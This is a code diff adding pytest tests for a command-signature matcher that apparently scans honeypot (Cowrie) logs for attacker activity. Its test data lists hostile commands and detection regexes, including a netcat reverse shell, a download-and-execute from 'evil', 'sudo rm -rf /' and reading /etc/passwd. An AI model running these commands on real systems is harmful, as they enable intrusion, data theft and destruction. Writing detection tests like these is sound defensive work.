@@ -42,3 +42,147 @@ for command in test_commands:
 
 print("\n" + "=" * 50)
 print("Test completed!")
+
+
+def test_registry_swaps_snapshot_and_bumps_version():
+    from signature_matcher import MatcherRegistry
+
+    current = [{'pattern': 'nmap', 'id': 1, 'description': 'Nmap', 'type': 'Recon', 'regex': False}]
+    registry = MatcherRegistry(lambda: [dict(s) for s in current])
+    assert registry.version == 0
+    assert registry.current().matcher.match('nmap -sS') == []
+
+    first = registry.reload()
+    assert first.version == 1
+    assert [m['id'] for m in registry.current().matcher.match('nmap -sS')] == [1]
+
+    current.append({'pattern': r'cat\s+/etc/passwd', 'id': 2, 'description': 'passwd', 'type': 'File Access', 'regex': True})
+    second = registry.reload()
+    assert second.version == 2
+    assert first.matcher.match('cat /etc/passwd') == []
+    assert [m['id'] for m in registry.current().matcher.match('cat /etc/passwd')] == [2]
+
+
+REGEX_SIGNATURES = [
+    r"curl\s+.*-u\s+[^ ]+", r"wget\s+https?://\S+", r"scp\s+.*@.*:.*", r"ssh\s+.*@.*",
+    r"curl\s+.*--data|-d\s+.*", r"powershell\s+.*-EncodedCommand\s+\S+", r"base64\s+.*-d",
+    r"python\d?\s+.*-c\s+['\"].*['\"]", r"nc\s+.*\d+\s+-e\s+\/bin\/sh",
+    r"openssl\s+req|openssl\s+smime|openssl\s+enc", r"cat\s+.*\/etc\/passwd", r"wget\s+.*",
+    r"curl\s+.*", r"chmod\s+\+x\s+.*", r"rm\s+-rf\s+.*", r"^sudo\b", r"(\w+) \1", r"(?i)DROP\s+TABLE",
+]
+
+ENGINE_COMMANDS = [
+    "", "ls -la", "cat /etc/passwd", "curl -u admin:pw http://x -d @f", "wget http://evil/x.sh && chmod +x x.sh",
+    "echo hi; sudo su", "sudo rm -rf /", "python3 -c 'import os'", "nc 10.0.0.1 4444 -e /bin/sh",
+    "openssl enc -d | base64 -d", "go go gadget", "drop table users", "scp a user@host:/tmp",
+]
+
+
+def test_regex_engines_and_prefilter_match_plain_search():
+    def build(engine, prefilter):
+        sigs = [{'pattern': p, 'id': i, 'description': p, 'regex': True} for i, p in enumerate(REGEX_SIGNATURES)]
+        sigs.append({'pattern': 'nmap', 'id': 'lit', 'description': 'nmap', 'regex': False})
+        sigs.append({'pattern': 'curl', 'id': 'curl_lit', 'description': 'curl', 'regex': False})
+        return SignatureMatcher(sigs, regex_engine=engine, prefilter=prefilter)
+
+    baseline = build("sequential", False)
+    variants = [build("combined", True), build("combined", False), build("sequential", True)]
+    for cmd in ENGINE_COMMANDS + ["nmap " + c for c in ENGINE_COMMANDS]:
+        want = [(m['id'], m['start'], m['end'], m['origin']) for m in baseline.match(cmd)]
+        for matcher in variants:
+            got = [(m['id'], m['start'], m['end'], m['origin']) for m in matcher.match(cmd)]
+            assert got == want, cmd
+
+
+def test_required_literals():
+    from signature_matcher import required_literals
+
+    assert required_literals(r"cat\s+.*\/etc\/passwd") == ["cat", "/etc/passwd"]
+    assert required_literals(r"openssl\s+req|openssl\s+smime") == ["openssl"]
+    assert required_literals(r"(ab)+cd") == ["ab", "cd"]
+    assert required_literals(r"curl\s+.*--data|-d\s+.*") == []
+    assert required_literals(r"(?i)drop\s+table") == []
+    assert required_literals(r"x?yz") == ["yz"]
+
+
+def test_iter_matches_agrees_with_match_and_skips_non_command_events():
+    sigs = [{'pattern': p, 'id': i, 'description': p, 'regex': True} for i, p in enumerate(REGEX_SIGNATURES)]
+    sigs.append({'pattern': 'nmap', 'id': 'lit', 'description': 'nmap', 'regex': False})
+    batch = SignatureMatcher(sigs)
+    items = list(ENGINE_COMMANDS) + [
+        {'eventid': 'cowrie.login.failed', 'username': 'root'},
+        {'eventid': 'cowrie.command.input', 'input': 'nmap -sS 10.0.0.1; cat /etc/passwd'},
+    ]
+    results = list(batch.iter_matches(items))
+    assert [pos for pos, _, _ in results] == list(range(len(ENGINE_COMMANDS))) + [len(items) - 1]
+    for pos, command, hits in results:
+        want = [(m['id'], m['start'], m['end'], m['origin']) for m in batch.match(command)]
+        assert [(h.signature['id'], h.start, h.end, h.origin) for h in hits] == want
+
+
+def test_registry_reuses_on_disk_artifact(tmp_path):
+    from signature_matcher import MatcherRegistry, signatures_digest
+
+    rows = [
+        {'pattern': 'nmap', 'id': 1, 'description': 'Nmap', 'type': 'Recon', 'regex': False},
+        {'pattern': r'cat\s+.*/etc/passwd', 'id': 2, 'description': 'passwd', 'type': 'File Access', 'regex': True},
+    ]
+    first = MatcherRegistry(lambda: [dict(r) for r in rows], artifact_dir=str(tmp_path)).reload()
+    assert (tmp_path / f"signatures-{signatures_digest(rows)}.pkl").exists()
+
+    second = MatcherRegistry(lambda: [dict(r) for r in rows], artifact_dir=str(tmp_path)).reload()
+    cmd = 'nmap -sS; cat /etc/passwd'
+    assert [h.to_dict() for h in second.matcher.match_hits(cmd)] == [h.to_dict() for h in first.matcher.match_hits(cmd)]
+    assert len(second.matcher.match_hits(cmd)) == 2
+
+
+def test_match_cache_counts_and_invalidates_on_new_version():
+    from signature_matcher import MatcherRegistry, MatchCache
+
+    rows = [{'pattern': 'nmap', 'id': 1, 'description': 'Nmap', 'regex': False}]
+    registry = MatcherRegistry(lambda: [dict(r) for r in rows])
+    cache = MatchCache(maxsize=2)
+    snap = registry.reload()
+    assert len(cache.match_hits(snap, 'nmap -sS')) == 1
+    assert len(cache.match_hits(snap, 'nmap -sS')) == 1
+    cache.match_hits(snap, 'ls')
+    cache.match_hits(snap, 'pwd')
+    stats = cache.stats()
+    assert (stats['hits'], stats['misses'], stats['evictions'], stats['size']) == (1, 3, 1, 2)
+
+    rows.append({'pattern': 'ls', 'id': 2, 'description': 'ls', 'regex': False})
+    snap = registry.reload()
+    assert len(cache.match_hits(snap, 'ls')) == 1
+    assert cache.stats()['invalidations'] == 1
+    assert cache.stats()['size'] == 1
+
+
+def test_unchanged_reload_keeps_version_and_cache():
+    from signature_matcher import MatcherRegistry, MatchCache
+
+    rows = [{'pattern': 'nmap', 'id': 1, 'description': 'Nmap', 'regex': False}]
+    registry = MatcherRegistry(lambda: [dict(r) for r in rows], max_age=0)
+    cache = MatchCache(maxsize=4)
+    snap = registry.reload()
+    cache.match_hits(snap, 'nmap -sS')
+    assert registry.is_stale()
+    assert registry.refresh_if_stale() is snap
+    assert registry.version == 1
+    cache.match_hits(registry.current(), 'nmap -sS')
+    assert cache.stats()['hits'] == 1 and cache.stats()['invalidations'] == 0
+
+    rows[0]['pattern'] = 'masscan'
+    assert registry.refresh_if_stale().version == 2
+
+
+def test_conditional_group_references_stay_standalone():
+    sigs = [
+        {'pattern': r'(a)b', 'id': 'grp', 'description': 'grp', 'regex': True},
+        {'pattern': r'(<)?user(?(1)>)', 'id': 'cond_num', 'description': 'cond', 'regex': True},
+        {'pattern': r'(?P<q>")?pass(?(q)")', 'id': 'cond_name', 'description': 'cond', 'regex': True},
+    ]
+    combined = SignatureMatcher(sigs, regex_engine="combined", prefilter=False)
+    sequential = SignatureMatcher(sigs, regex_engine="sequential", prefilter=False)
+    assert sorted(combined.table[combined._regex_sig[i]]['id'] for i in combined._standalone) == ['cond_name', 'cond_num']
+    for cmd in ['ab <user>', '<user', '"pass"', 'user "pass']:
+        assert combined.match(cmd) == sequential.match(cmd), cmd